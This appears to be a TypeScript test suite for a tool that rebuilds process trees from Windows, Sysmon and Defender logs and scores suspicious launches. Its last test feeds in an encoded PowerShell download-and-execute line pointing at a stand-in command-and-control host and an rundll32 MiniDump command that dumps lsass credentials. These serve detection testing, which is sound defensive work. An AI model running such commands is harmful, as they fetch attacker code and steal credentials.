import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  buildProcessTree,
  detectSchema,
  fitSchema,
  type ProcessSchema,
} from '../../../../lib/analysis/process-tree/index.ts';
import { type Cell, type Table, tableFromRows, ticksFromIso, toRows } from '../../../../lib/tables/index.ts';
import { itWithShared, sharedPath } from '../../../support/shared.ts';
import { csvTable } from '../support/csv.ts';
import { makeRandom } from '../support/random.ts';

const START = ticksFromIso('2026-03-02T08:00:00Z')!;
const SECOND = 10_000_000n;

const WINDOWS = [
  { name: 'TimeGenerated', type: 'datetime' },
  { name: 'EventID', type: 'long' },
  { name: 'Computer', type: 'string' },
  { name: 'NewProcessName', type: 'string' },
  { name: 'NewProcessId', type: 'string' },
  { name: 'ParentProcessName', type: 'string' },
  { name: 'ProcessId', type: 'string' },
  { name: 'CommandLine', type: 'string' },
] as const;

const SYSMON = [
  { name: 'TimeGenerated', type: 'datetime' },
  { name: 'Computer', type: 'string' },
  { name: 'Image', type: 'string' },
  { name: 'CommandLine', type: 'string' },
  { name: 'ProcessId', type: 'long' },
  { name: 'ParentProcessId', type: 'long' },
  { name: 'ParentImage', type: 'string' },
  { name: 'ParentCommandLine', type: 'string' },
  { name: 'ProcessGuid', type: 'string' },
  { name: 'ParentProcessGuid', type: 'string' },
] as const;

function windows(
  rows: readonly (readonly [
    seconds: number,
    host: string,
    name: string,
    pid: number,
    parent: string,
    ppid: number,
    event?: number,
    line?: string,
  ])[],
): Table {
  return tableFromRows(
    WINDOWS,
    rows.map(([seconds, host, name, pid, parent, ppid, event = 4688, line = '']): Cell[] => [
      START + BigInt(Math.round(seconds * 1000)) * 10_000n,
      BigInt(event),
      host,
      name && `C:\\Windows\\${name}`,
      `0x${pid.toString(16)}`,
      parent && `C:\\Windows\\${parent}`,
      `0x${ppid.toString(16)}`,
      line,
    ]),
  );
}

function build(table: Table, schema: ProcessSchema = detectSchema(table.columns)) {
  const tree = buildProcessTree(table, schema);
  const rows = toRows(tree.table);
  const nameByKey = new Map(rows.map((row) => [row['NodeKey'], row]));
  const parentOf = (row: number) => {
    const parent = nameByKey.get(rows[row]!['ParentKey'] as string);
    return parent === undefined ? null : parent['SourceRow'] === null ? 'inferred' : Number(parent['SourceRow']);
  };
  return { ...tree, rows, parentOf };
}

describe('parents', () => {
  it('are of the same host, started before, and bear the name that is told', () => {
    const { parentOf, rows, summary } = build(
      windows([
        [0, 'a', 'explorer.exe', 100, 'userinit.exe', 50],
        [0, 'b', 'explorer.exe', 100, 'userinit.exe', 50],
        [1, 'a', 'cmd.exe', 200, 'explorer.exe', 100],
        [2, 'b', 'cmd.exe', 200, 'explorer.exe', 100],
        [3, 'a', 'whoami.exe', 300, 'cmd.exe', 200],
        [4, 'c', 'net.exe', 400, 'cmd.exe', 200],
      ]),
    );
    expect([0, 1, 2, 3, 4, 5].map(parentOf)).toEqual(['inferred', 'inferred', 0, 1, 2, 'inferred']);
    expect(summary).toMatchObject({ processes: 9, inferred: 3, roots: 3, largestDepth: 4 });
    expect(rows[4]).toMatchObject({
      Depth: 3,
      Path: 'userinit.exe > explorer.exe > cmd.exe > whoami.exe',
      IsLeaf: true,
    });
    expect(rows[6]).toMatchObject({
      Inferred: true,
      NewProcessName: 'C:\\Windows\\userinit.exe',
      NewProcessId: '0x32',
      Computer: 'a',
    });
  });

  it('are the latest owner of a pid that is used again, unless that ended before', () => {
    const rows: Parameters<typeof windows>[0] = [
      [0, 'a', 'cmd.exe', 200, '', 4],
      [10, 'a', 'cmd.exe', 200, '', 4],
      [11, 'a', 'x.exe', 300, 'cmd.exe', 200],
      [20, 'a', 'notepad.exe', 200, '', 4],
      [21, 'a', 'y.exe', 301, 'cmd.exe', 200],
    ];
    const { parentOf, summary } = build(windows(rows));
    expect([parentOf(2), parentOf(4)]).toEqual([1, 1]);
    expect(summary.reusedPids).toBe(2);
    const ended = build(
      windows([...rows.slice(0, 3), [15, 'a', '', 0, '', 200, 4689], [30, 'a', 'z.exe', 302, 'cmd.exe', 200]]),
    );
    expect(ended.parentOf(3)).toBe('inferred');
  });

  it('are found where one side has a path and the other a base name', () => {
    const table = tableFromRows(
      [...WINDOWS.slice(0, 1), ...WINDOWS.slice(3)].map((column) => ({ ...column })),
      [
        [START, 'C:\\Windows\\System32\\cmd.exe', '7', '', '1', ''],
        [START + SECOND, 'C:\\x\\y.exe', '8', 'CMD.EXE', '7.0', ''],
        [START + SECOND, '\\Device\\HarddiskVolume2\\x\\z.exe', '9', 'c:\\x\\y.exe', '0x8', ''],
      ],
    );
    const schema = {
      processName: 'NewProcessName',
      processId: 'NewProcessId',
      parentId: 'ProcessId',
      parentName: 'ParentProcessName',
      timeStamp: 'TimeGenerated',
    };
    const { parentOf } = build(table, schema);
    expect([parentOf(1), parentOf(2)]).toEqual([0, 1]);
  });

  it('are never the process itself, and cycles are cut and counted', () => {
    const { parentOf, summary } = build(
      windows([
        [0, 'a', 'a.exe', 1, 'a.exe', 1],
        [1, 'a', 'b.exe', 2, 'c.exe', 3],
        [1, 'a', 'c.exe', 3, 'b.exe', 2],
      ]),
    );
    expect(parentOf(0)).toBe('inferred');
    expect([parentOf(1), parentOf(2)].filter((parent) => parent === null)).toHaveLength(1);
    expect(summary).toMatchObject({ cycles: 1, orphans: 1 });
  });

  it('are found by GUID, whatever pids and times say', () => {
    const table = tableFromRows(SYSMON, [
      [START, 'a', 'C:\\p.exe', 'p', 10n, 4n, 'C:\\s.exe', 's -x', '{A}', '{S}'],
      [START, 'a', 'C:\\q.exe', 'q', 10n, 4n, 'C:\\s.exe', 's -x', '{B}', '{S}'],
      [START + SECOND, 'a', 'C:\\c.exe', 'c', 11n, 10n, 'C:\\q.exe', 'q', '{C}', '{a}'],
    ]);
    const { parentOf, rows, summary } = build(table);
    expect(parentOf(2)).toBe(0);
    expect(summary.inferred).toBe(1);
    expect(rows[3]).toMatchObject({
      NodeKey: '{s}',
      ProcessGuid: '{S}',
      CommandLine: 's -x',
      Image: 'C:\\s.exe',
      Inferred: true,
    });
  });

  it('take one start for another’s record, if one of them has no GUID', () => {
    const table = tableFromRows(SYSMON, [
      [START, 'a', 'C:\\p.exe', 'p', 10n, 4n, 'C:\\s.exe', null, null, null],
      [START + 1000n, 'a', 'C:\\p.exe', 'p', 10n, 4n, 'C:\\s.exe', 's', '{A}', '{S}'],
      [START + SECOND, 'a', 'C:\\c.exe', 'c', 11n, 10n, 'C:\\p.exe', null, null, null],
    ]);
    const { rows, summary } = build(table);
    expect(summary).toMatchObject({ duplicates: 1, processes: 3 });
    expect(rows.find((row) => row['Image'] === 'C:\\c.exe')).toMatchObject({ ParentKey: '{a}' });
  });

  itWithShared(
    'data/msticpy/mde_proc_cs1.csv',
    'of Defender are found by their own start, and grandparents inferred',
    () => {
      const table = csvTable(sharedPath('data/msticpy/mde_proc_cs1.csv'));
      const { summary } = build(table);
      expect(summary).toMatchObject({ processes: 1642, roots: 9, largestDepth: 16 });
    },
  );

  itWithShared('oracle/mde_pub_in.csv', 'of DeviceProcessEvents are found by the process’s real start', () => {
    const { summary } = build(csvTable(sharedPath('oracle/mde_pub_in.csv')));
    expect(summary.processes).toBeGreaterThan(250);
    expect(summary.roots).toBeLessThan(6);
  });
});

describe('any forest', () => {
  const HOSTS = ['ws-1', 'ws-2', 'ws-3'];

  it('is found again from its events, with pids that are used again', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 1e9 }), fc.integer({ min: 1, max: 120 }), (seed, count) => {
        const random = makeRandom(seed);
        const rows: [number, string, string, number, string, number][] = [];
        const parents: (number | null)[] = [];
        const owner = new Map<string, number>();
        for (let row = 0; row < count; row++) {
          const host = random.pick(HOSTS);
          const alive = [...owner].filter(([key]) => key.startsWith(`${host} `)).map(([, position]) => position);
          const parent = alive.length > 0 && random.below(4) > 0 ? random.pick(alive) : null;
          const pid = 10 + random.below(40);
          const name = `p${random.below(5)}.exe`;
          const isOwn = parent !== null && rows[parent]![3] === pid;
          const [, , parentName, parentPid] = parent === null ? [0, '', 'system', 4] : rows[parent]!;
          rows.push([row, host, name, isOwn ? pid + 100 : pid, parentName, parentPid]);
          parents.push(parent);
          owner.set(`${host} ${rows[row]![3]}`, row);
        }
        const { parentOf, rows: built } = build(windows(rows));
        expect(rows.map((_, row) => parentOf(row))).toEqual(parents.map((parent) => parent ?? 'inferred'));
        expect(new Set(built.map((row) => row['NodeKey'])).size).toBe(built.length);
        checkForest(built);
      }),
      { numRuns: 50 },
    );
  });

  it('is a forest, whatever the rows say', () => {
    const small = fc.integer({ min: 0, max: 6 });
    const row = fc.tuple(
      small,
      fc.constantFrom('a', 'b', ''),
      fc.constantFrom('x.exe', 'y.exe', ''),
      small,
      fc.constantFrom('x.exe', 'y.exe', ''),
      small,
    );
    fc.assert(
      fc.property(fc.array(row, { maxLength: 40 }), (rows) => {
        const { rows: built, summary } = build(windows(rows));
        expect(built.length).toBe(summary.processes);
        expect(summary.processes - summary.inferred + summary.duplicates).toBe(rows.length);
        checkForest(built);
      }),
      { numRuns: 150 },
    );
  });

  it('may be a chain of thirty thousand, or as many children of one', () => {
    const count = 30_000;
    const chain = windows(Array.from({ length: count }, (_, i) => [i / 1000, 'a', 'x.exe', i + 10, 'x.exe', i + 9]));
    expect(build(chain).summary).toMatchObject({ processes: count + 1, largestDepth: count + 1 });
    const wide = windows(Array.from({ length: count }, (_, i) => [i / 1000, 'a', 'x.exe', i + 10, 'y.exe', 4]));
    expect(build(wide).summary).toMatchObject({ processes: count + 1, largestDepth: 2 });
    const reused = windows(
      Array.from({ length: count }, (_, i) => [i / 1000, 'a', `${i % 977}.exe`, 7, 'none.exe', 7]),
    );
    expect(build(reused).summary.processes).toBe(count + 1);
  });

  it('is the same each time', () => {
    const table = windows([
      [1, 'a', 'b.exe', 2, 'a.exe', 1],
      [1, 'a', 'c.exe', 2, 'a.exe', 1],
      [0, 'a', 'a.exe', 1, '', 0],
    ]);
    expect(build(table).rows).toEqual(build(table).rows);
  });
});

/** Every parent is there, depths follow, each process comes before its children in tree order, and flags agree. */
function checkForest(rows: readonly Record<string, Cell>[]): void {
  const byKey = new Map(rows.map((row) => [row['NodeKey'], row]));
  const withChildren = new Set(rows.map((row) => row['ParentKey']));
  for (const row of rows) {
    const hasChildren = withChildren.has(row['NodeKey']!);
    expect([row['IsRoot'], row['IsLeaf'], row['IsBranch']]).toEqual([
      row['ParentKey'] === null,
      !hasChildren,
      row['ParentKey'] !== null && hasChildren,
    ]);
    if (row['ParentKey'] === null) {
      expect(row['Depth']).toBe(0);
      continue;
    }
    const parent = byKey.get(row['ParentKey']!)!;
    expect(row['Depth']).toBe((parent['Depth'] as number) + 1);
    expect(parent['TreeOrder'] as number).toBeLessThan(row['TreeOrder'] as number);
  }
}

describe('schemas', () => {
  it('are recognised by their columns', () => {
    const named = (names: string) => detectSchema(names.split(' ').map((name) => ({ name, type: 'string' }))).name;
    expect(named('TimeGenerated EventID Computer NewProcessName NewProcessId ProcessId ParentProcessName')).toBe(
      'windows-security',
    );
    expect(named('UtcTime EventID Image ProcessId ParentProcessId ProcessGuid')).toBe('sysmon');
    expect(
      named('TimeGenerated Computer User Image CommandLine ProcessId ParentProcessId ParentImage ProcessGuid'),
    ).toBe('process-creation');
    expect(named('Timestamp FileName ProcessId InitiatingProcessId InitiatingProcessFileName DeviceName')).toBe(
      'defender',
    );
    expect(named('TimeGenerated FileName ProcessId InitiatingProcessId InitiatingProcessFileName DeviceName')).toBe(
      'defender-in-sentinel',
    );
    expect(named('TimeGenerated exe pid ppid EventType cmdline')).toBe('linux-auditd');
    expect(named('calendarTime name pid parent cmdline pcmdline')).toBe('osquery');
    expect(named('starttime process pid parentpid parentprocess eventtype hostname')).toBe('trellix-hx');
    expect(named('time_stamp name process_id parent_id cmd_line')).toBe('virustotal-sandbox');
    expect(() => named('TimeGenerated Computer Image')).toThrow(/not recognised/);
  });

  it('lose optional columns that are not there, and need the four', () => {
    const table = windows([]);
    const schema = {
      processName: 'NewProcessName',
      processId: 'NewProcessId',
      parentId: 'ProcessId',
      timeStamp: 'TimeGenerated',
      userName: 'Nobody',
    };
    expect(fitSchema(schema, table.columns)).not.toHaveProperty('userName');
    expect(() => fitSchema({ ...schema, processId: 'Nothing' }, table.columns)).toThrow(/processId/);
  });
});

describe('what is notable', () => {
  const marked = (name: string, parent: string, line = '') =>
    build(windows([[0, 'a', name, 5, parent, 4, 4688, line]])).rows[0]!;

  it('is marked in the row, with the reason', () => {
    const encoded = Buffer.from(
      "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a')",
      'utf16le',
    ).toString('base64');
    expect(
      marked(
        'System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'System32\\wscript.exe',
        `powershell -w hidden -enc ${encoded}`,
      ),
    ).toMatchObject({
      Reason: expect.stringMatching(/script host.*|encoded command line.*it downloads/s),
      Score: expect.closeTo(95, -1.5),
    });
    expect(marked('..\\Users\\Public\\svchost.exe', 'explorer.exe')['Reason']).toMatch(
      /named svchost\.exe.*everyone can write/s,
    );
    expect(
      marked(
        'System32\\rundll32.exe',
        'x.exe',
        'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 lsass.dmp full',
      )['Score'],
    ).toBeGreaterThan(80);
    expect(marked('System32\\svchost.exe', 'System32\\services.exe', 'svchost -k netsvcs')).toMatchObject({
      Score: 0,
      Reason: null,
    });
  });
});
